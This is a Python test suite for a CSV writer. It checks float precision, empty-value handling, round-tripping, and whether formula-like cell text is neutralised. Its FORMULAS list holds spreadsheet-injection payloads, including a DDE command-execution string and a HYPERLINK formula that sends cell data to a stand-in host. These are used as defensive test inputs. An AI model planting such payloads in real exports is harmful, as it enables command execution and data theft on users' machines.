"""Tables as CSV."""

import csv
import io
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tsuishi.report.output.csv_files import _FORMULA, text

COLUMNS: dict[str, list[Any]] = {
    "name": ["a", 'b, "c"'],
    "value": [0.1, float("nan")],
    "count": [None, 2],
    "known": [True, None],
}


def test_nothing_is_empty_and_floats_have_all_their_digits() -> None:
    assert text(COLUMNS) == 'name,value,count,known\na,0.1,,true\n"b, ""c""",,2,\n'
    assert text({"value": [0.1 + 0.2, 1e300], "mixed": [1, 0.30000000000000004]}) == (
        "value,mixed\n0.30000000000000004,1\n1e+300,0.30000000000000004\n"
    )
    assert text({"none": [], "too": []}) == "none,too\n"


def as_read(value: object) -> str:
    """What a reader of CSV finds in place of a value."""
    words = {None: "", True: "true", False: "false"}
    if value is None or isinstance(value, bool):
        return words[value]
    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
    return _FORMULA.sub("'", text) if isinstance(value, str) else text


FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1)',
    "＝1",
    "＋1",
    "－1",
    "＠x",
]
AROUND = [
    "{}",
    " {}",
    "\t{}",
    "\r{}",
    "\n{}",
    "\u00a0{}",
    '"{}',
    "'{}",
    "\"' {}",
    "a;{}",
    "a; {}",
    'a;"{}',
    "a\t{}",
    "a\n{}",
]


@pytest.mark.parametrize("around", AROUND, ids=range(len(AROUND)))
def test_text_is_no_formula_whatever_separates_cells(around: str) -> None:
    for formula in FORMULAS:
        written = text({"a": ["first"], "b": [around.format(formula)]})
        for delimiter in (",", ";", "\t"):
            found = [cell for row in csv.reader(io.StringIO(written), delimiter=delimiter) for cell in row]
            assert not [cell for cell in found if cell.strip().lstrip('"').strip()[:1] in set("=+-@＝＋－＠")], written


def test_numbers_stay_numbers_and_text_in_which_there_is_a_sign_stays_as_it_is() -> None:
    assert text({"a": [-1.5, -2, 1e-05], "b": ["a-b", "a = b", "x@y"]}) == "a,b\n-1.5,a-b\n-2,a = b\n1e-05,x@y\n"
    assert text({"mixed": [-1, "-1", None]}) == "mixed\n-1\n'-1\n\n"


@given(st.lists(st.tuples(st.text(), st.one_of(st.none(), st.booleans(), st.integers(), st.text()))))
def test_what_is_written_is_read_again(rows: list[tuple[str, object]]) -> None:
    written = text({"a": [one for one, _ in rows], "b": [other for _, other in rows]})
    _, *found = csv.reader(io.StringIO(written))
    assert found == [[as_read(one), as_read(other)] for one, other in rows]


def test_none_nan_and_na_are_nothing() -> None:
    columns: dict[str, list[Any]] = {
        "a": [None, "x"],
        "b": [True, pd.NA],
        "c": [1.0, float("nan")],
        "d": [pd.NA, 1],
        "e": [None, 0.5],
    }
    assert text(columns) == "a,b,c,d,e\n,true,1.0,,\nx,,,1,0.5\n"
